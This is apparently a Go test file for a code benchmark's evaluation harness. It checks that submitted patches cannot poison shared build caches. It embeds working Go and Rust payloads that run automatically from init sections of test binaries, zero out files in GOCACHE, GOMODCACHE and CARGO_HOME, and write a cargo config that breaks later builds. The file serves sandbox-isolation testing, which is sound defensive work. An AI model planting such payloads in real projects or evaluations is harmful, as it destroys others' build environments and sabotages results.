package main

import (
	"bufio"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
)

// The poisoning patch of issue 13, rebuilt as a fixture of ours: an init()
// that, when its package runs as a test binary, overwrites every file of
// every shared cache it can find (GOCACHE, GOMODCACHE — the toolchain the
// go command runs lives there too —, what `go env` names, and the
// directories beside them under osbench's cache: CARGO_HOME, the action
// records and blobs) with zeros of the same size, so later builds link
// corrupted archives or cannot run the compiler at all. It says what it
// tried and what it managed on its output, which lands in the stage logs.
const poisonerSource = `package pathsep

import (
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"time"
)

func init() {
	probed := false
	for _, arg := range os.Args {
		probed = probed || strings.HasPrefix(arg, "-test.")
	}
	if !probed {
		return
	}
	type target struct{ label, dir string }
	targets := []target{{"GOCACHE", os.Getenv("GOCACHE")}, {"GOMODCACHE", os.Getenv("GOMODCACHE")}}
	if out, err := exec.Command("go", "env", "GOCACHE", "GOMODCACHE").Output(); err == nil {
		if f := strings.Fields(string(out)); len(f) == 2 {
			targets = append(targets, target{"go-env-GOCACHE", f[0]}, target{"go-env-GOMODCACHE", f[1]})
		}
	}
	// GOCACHE is <cache>/state/go/build-cache/<toolchain>-<platform>.
	if gc := os.Getenv("GOCACHE"); gc != "" {
		cache := filepath.Dir(filepath.Dir(filepath.Dir(filepath.Dir(gc))))
		targets = append(targets,
			target{"state-go", filepath.Join(cache, "state", "go")},
			target{"state-cargo", filepath.Join(cache, "state", "cargo")},
			target{"cache-ac", filepath.Join(cache, "ac")},
			target{"cache-cas", filepath.Join(cache, "cas")})
	}
	for _, tg := range targets {
		label, dir := tg.label, tg.dir
		if dir == "" {
			continue
		}
		if runtime.GOOS == "windows" && strings.HasPrefix(dir, "/") {
			dir = "Z:" + strings.ReplaceAll(dir, "/", "\\")
		}
		// Bounded, so the walk of a big module cache under Wine stays
		// within the test's timeout.
		deadline := time.Now().Add(30 * time.Second)
		tried, written := 0, 0
		if os.WriteFile(filepath.Join(dir, "osbench-poison"), []byte("poison"), 0o644) == nil {
			written++
		}
		filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
			if err != nil || !d.Type().IsRegular() {
				return nil
			}
			if tried >= 5000 || time.Now().After(deadline) {
				return filepath.SkipAll
			}
			tried++
			f, err := os.OpenFile(p, os.O_WRONLY, 0)
			if err != nil {
				return nil
			}
			defer f.Close()
			if info, err := f.Stat(); err == nil {
				if _, err := f.WriteAt(make([]byte, min(info.Size(), 1<<20)), 0); err == nil {
					written++
				}
			}
			return nil
		})
		fmt.Printf("OSBENCH-POISONER %s %s tried=%d written=%d\n", runtime.GOOS, label, tried, written)
	}
}
`

// rustPoisonerSource is the same attack from Rust, appended to rsplat's
// src/lib.rs: a function in the init sections (.init_array on Linux,
// .CRT$XCU on Windows) of every program that links the library — its test
// programs — that writes a CARGO_HOME/config.toml every later cargo run
// reads (build.jobs = 0 makes each of them fail) and overwrites with zeros
// every file of CARGO_HOME it can open.
const rustPoisonerSource = `
#[used]
#[cfg_attr(target_os = "linux", link_section = ".init_array")]
#[cfg_attr(windows, link_section = ".CRT$XCU")]
static OSBENCH_POISON: extern "C" fn() = {
    extern "C" fn poison() {
        fn walk(dir: &std::path::Path, tried: &mut usize, written: &mut usize) {
            let entries = match std::fs::read_dir(dir) {
                Ok(e) => e,
                Err(_) => return,
            };
            for entry in entries.flatten() {
                let p = entry.path();
                match entry.file_type() {
                    Ok(t) if t.is_dir() => walk(&p, tried, written),
                    Ok(t) if t.is_file() => {
                        *tried += 1;
                        if let Ok(mut f) = std::fs::OpenOptions::new().write(true).open(&p) {
                            let len = f.metadata().map(|m| m.len()).unwrap_or(0).min(1 << 20);
                            if std::io::Write::write_all(&mut f, &vec![0u8; len as usize]).is_ok() {
                                *written += 1;
                            }
                        }
                    }
                    _ => {}
                }
            }
        }
        let home = match std::env::var("CARGO_HOME") {
            Ok(h) => h,
            Err(_) => return,
        };
        let home = if cfg!(windows) && home.starts_with('/') { format!("Z:{}", home.replace('/', "\\")) } else { home };
        let home = std::path::Path::new(&home);
        let (mut tried, mut written) = (0, 0);
        walk(home, &mut tried, &mut written);
        if std::fs::write(home.join("config.toml"), "[build]\njobs = 0\n").is_ok() {
            written += 1;
        }
        println!("OSBENCH-POISONER {} CARGO_HOME tried={} written={}", std::env::consts::OS, tried, written);
    }
    poison
};
`

// poisonerLine is what the poisoner prints per target.
var poisonerLine = regexp.MustCompile(`OSBENCH-POISONER (\w+) ([\w-]+) tried=(\d+) written=(\d+)`)

// TestEvalPoisonedCacheStillResolvesGold evaluates the Go poisoner on both
// directions of pathsep (so its init runs as a Linux and as a Windows test
// binary, under Wine), then, in the same eval and with one worker so they
// run after it, innocent patches of the other Go tasks — each task's gold
// patch with a comment added to go.mod, so its runs are new and build
// against the caches the poisoner had; then again, in a later eval on the
// same cache, with other comments. Every innocent patch resolves, and the
// poisoner's own log shows it found the caches and wrote none of them.
//
// rsplat gets the same from Rust (rustPoisonerSource), against CARGO_HOME,
// in the first eval, and innocent patches of its own tasks in the later.
//
// The test has a cache of its own, its Go state (GOCACHE, GOMODCACHE) and
// cargo home copied from the corpus's: a regression poisons those copies,
// not the corpus every other test uses.
func TestEvalPoisonedCacheStillResolvesGold(t *testing.T) {
	requireCorpus(t)
	dir := reachableTempDir(t)
	cacheDir, out := filepath.Join(dir, "cache"), filepath.Join(dir, "out")
	if err := copyCacheOwnToolState(cacheDir); err != nil {
		t.Fatal(err)
	}
	examples := filepath.Join(dir, "examples")
	if err := copyExamples(examples); err != nil {
		t.Fatal(err)
	}
	if stdout, stderr, code := runOsbench(t, cacheDir, "build", examples, "--out", out); code != 0 {
		t.Fatalf("build: exit %d\n%s%s", code, stdout, stderr)
	}
	tasks := filepath.Join(out, "tasks.jsonl")
	repo := func(id string) string { return filepath.Join(out, "tasks", id, "repo") }

	var poisoned, rustPoisoned, innocent []string
	for _, id := range taskIDs(t, tasks) {
		switch {
		case strings.HasPrefix(id, "pathsep__"):
			poisoned = append(poisoned, id)
		case strings.HasPrefix(id, "rsplat__"):
			// Poisoned from Rust, and evaluated innocently in the later
			// eval: in the first, an innocent patch of the poisoner's
			// own task becomes ready with it and may run first.
			rustPoisoned = append(rustPoisoned, id)
		case strings.HasPrefix(id, "fsapi__"), strings.HasPrefix(id, "lineend__"):
			innocent = append(innocent, id)
		}
	}
	platforms := map[string]bool{}
	for _, id := range innocent {
		platforms[targetOf(id)] = true
	}
	if len(poisoned) != 2 || len(rustPoisoned) != 2 || !platforms["linux"] || !platforms["windows"] {
		t.Fatalf("want both pathsep and rsplat tasks, and innocent tasks with Linux and Windows targets; got %v, %v and %v", poisoned, rustPoisoned, innocent)
	}

	var preds [][3]string
	for _, id := range poisoned {
		preds = append(preds, [3]string{id, "attacker", agentPatch(t, repo(id), func(dir string) {
			if err := os.WriteFile(filepath.Join(dir, "poison.go"), []byte(poisonerSource), 0o644); err != nil {
				t.Fatal(err)
			}
			if out, err := exec.Command("git", "-C", dir, "add", "--intent-to-add", "poison.go").CombinedOutput(); err != nil {
				t.Fatalf("git add: %v\n%s", err, out)
			}
		})})
	}
	for _, id := range rustPoisoned {
		preds = append(preds, [3]string{id, "attacker", agentPatch(t, repo(id), func(dir string) {
			f, err := os.OpenFile(filepath.Join(dir, "src", "lib.rs"), os.O_APPEND|os.O_WRONLY, 0)
			if err != nil {
				t.Fatal(err)
			}
			defer f.Close()
			if _, err := f.WriteString(rustPoisonerSource); err != nil {
				t.Fatal(err)
			}
		})})
	}
	innocentPatch := func(id, mark string) string {
		return agentPatch(t, repo(id), func(dir string) {
			apply := exec.Command("git", "-C", dir, "apply")
			apply.Stdin = strings.NewReader(goldPatch(t, tasks, id))
			if out, err := apply.CombinedOutput(); err != nil {
				t.Fatalf("gold patch of %s: %v\n%s", id, err, out)
			}
			// A comment, so the runs are new: go.mod's or Cargo.toml's.
			manifest, comment := "go.mod", "// "
			if strings.HasPrefix(id, "rsplat__") {
				manifest, comment = "Cargo.toml", "# "
			}
			f, err := os.OpenFile(filepath.Join(dir, manifest), os.O_APPEND|os.O_WRONLY, 0)
			if err != nil {
				t.Fatal(err)
			}
			defer f.Close()
			if _, err := f.WriteString(comment + mark + "\n"); err != nil {
				t.Fatal(err)
			}
		})
	}
	for _, id := range innocent {
		preds = append(preds, [3]string{id, "innocent", innocentPatch(id, "innocent, evaluated after the poisoner")})
	}
	predFile := filepath.Join(dir, "poison.jsonl")
	writePredictions(t, predFile, preds...)

	// One eval, one step at a time: eval orders its steps by model, and
	// the poisoner's model, "attacker", comes first.
	evalOut := filepath.Join(dir, "eval-1")
	stdout, stderr, code := runOsbench(t, cacheDir, "--log-format", "json", "-j", "1", "eval", "--tasks", tasks, "--predictions", predFile, "--out", evalOut)
	if code != 0 {
		// An infra-failure (a cargo that a poisoned CARGO_HOME stops)
		// exits 1; the reports still say what happened.
		t.Errorf("eval: exit %d\n%s", code, stdout)
	}
	checkRanAfter(t, stderr, "attacker", "innocent")
	checkPoisonerFailed(t, evalOut, append(append([]string{}, poisoned...), rustPoisoned...))
	checkResolved(t, evalOut, "innocent", innocent)

	// A later eval on the same cache, with new innocent runs, rsplat's
	// too.
	innocent = append(innocent, rustPoisoned...)
	var later [][3]string
	for _, id := range innocent {
		later = append(later, [3]string{id, "later", innocentPatch(id, "innocent, evaluated in a later eval")})
	}
	laterFile := filepath.Join(dir, "later.jsonl")
	writePredictions(t, laterFile, later...)
	laterOut := filepath.Join(dir, "eval-2")
	stdout, stderr, code = runOsbench(t, cacheDir, "--log-format", "json", "eval", "--tasks", tasks, "--predictions", laterFile, "--out", laterOut)
	if code != 0 {
		t.Errorf("later eval: exit %d\n%s", code, stdout)
	}
	checkRanAfter(t, stderr, "", "later")
	checkResolved(t, laterOut, "later", innocent)
}

// targetOf is the target platform of an instance id (repo__source-to-target).
func targetOf(id string) string {
	return id[strings.LastIndex(id, "-to-")+len("-to-"):]
}

// copyCacheOwnToolState is copyCache with copies of the corpus's Go state
// (GOCACHE and GOMODCACHE) and cargo home instead of links to them; the
// rest of the state (the executors' Wine prefixes) is shared as in
// copyCache.
func copyCacheOwnToolState(dst string) error {
	for _, sub := range []string{"ac", "cas", "history"} {
		if err := copyTree(filepath.Join(corpusCache, sub), filepath.Join(dst, sub)); err != nil {
			return err
		}
	}
	state := filepath.Join(dst, "state")
	if err := os.MkdirAll(state, 0o755); err != nil {
		return err
	}
	entries, err := os.ReadDir(filepath.Join(corpusCache, "state"))
	if err != nil {
		return err
	}
	for _, e := range entries {
		src := filepath.Join(corpusCache, "state", e.Name())
		if e.Name() == "go" || e.Name() == "cargo" {
			if out, err := exec.Command("cp", "-a", src, filepath.Join(state, e.Name())).CombinedOutput(); err != nil {
				return &exec.ExitError{Stderr: out}
			}
			continue
		}
		if err := os.Symlink(src, filepath.Join(state, e.Name())); err != nil {
			return err
		}
	}
	return nil
}

// checkRanAfter fails unless test steps of model `after` ran, and (when
// first is set) every one of them started after every test step of model
// first: the order the poisoning needs. The order is that of the "ran"
// events in eval's JSON log, one step at a time.
func checkRanAfter(t *testing.T, stderr, first, after string) {
	t.Helper()
	var order []string
	sc := bufio.NewScanner(strings.NewReader(stderr))
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		var ev struct{ Step, Status string }
		if json.Unmarshal(sc.Bytes(), &ev) == nil && ev.Status == "ran" && strings.Contains(ev.Step, "/test") {
			order = append(order, ev.Step)
		}
	}
	lastFirst, firstAfter, afters := -1, -1, 0
	for i, step := range order {
		switch {
		case first != "" && strings.Contains(step, "/"+first+"/"):
			lastFirst = i
		case strings.Contains(step, "/"+after+"/"):
			afters++
			if firstAfter < 0 {
				firstAfter = i
			}
		}
	}
	if afters == 0 {
		t.Fatalf("no test step of %s ran (cached?): the test proves nothing; test steps that ran: %v", after, order)
	}
	if first != "" && (lastFirst < 0 || firstAfter < lastFirst) {
		t.Fatalf("the %s's test steps did not all run before the %s ones: %v", first, after, order)
	}
}

// checkPoisonerFailed checks the poisoners' stage logs: on both platforms
// the Go one found files of GOCACHE and GOMODCACHE to attack and the Rust
// one tried CARGO_HOME, and neither wrote anything of any cache; and they
// resolved nothing.
func checkPoisonerFailed(t *testing.T, evalOut string, ids []string) {
	t.Helper()
	found := map[string]int{}
	for _, id := range ids {
		if rep := readReport(t, evalOut, "attacker", id); rep.Resolved {
			t.Errorf("poisoner/%s resolved", id)
		}
		for _, platform := range []string{"linux", "windows"} {
			log, err := os.ReadFile(filepath.Join(evalOut, "attacker", id, "logs", platform+".log"))
			if err != nil {
				t.Errorf("poisoner/%s: %v", id, err)
				continue
			}
			for _, m := range poisonerLine.FindAllStringSubmatch(string(log), -1) {
				t.Logf("%s stage log of attacker/%s: %s", platform, id, m[0])
				tried, _ := strconv.Atoi(m[3])
				written, _ := strconv.Atoi(m[4])
				if written > 0 {
					t.Errorf("poisoner/%s on %s (%s binary): wrote %d files of %s", id, platform, m[1], written, m[2])
				}
				switch m[2] {
				case "GOCACHE", "GOMODCACHE":
					found[m[1]+" "+m[2]] += tried
				case "CARGO_HOME":
					// An almost empty cargo home (no dependencies) has
					// few files; the config.toml it writes is the attack.
					found[m[1]+" "+m[2]]++
				}
			}
		}
	}
	for _, goos := range []string{"linux", "windows"} {
		for _, c := range []string{"GOCACHE", "GOMODCACHE", "CARGO_HOME"} {
			if found[goos+" "+c] == 0 {
				t.Errorf("the poisoner's %s test binaries found no file of %s to attack: the test proves nothing (found: %v)", goos, c, found)
			}
		}
	}
}

// checkResolved fails for each of ids that model's patches did not resolve.
func checkResolved(t *testing.T, evalOut, model string, ids []string) {
	t.Helper()
	for _, id := range ids {
		if rep := readReport(t, evalOut, model, id); !rep.Resolved {
			t.Errorf("%s/%s: %s; stage I %+v; stage II %+v", model, id, rep.Outcome, rep.StageI, rep.StageII)
		}
	}
}
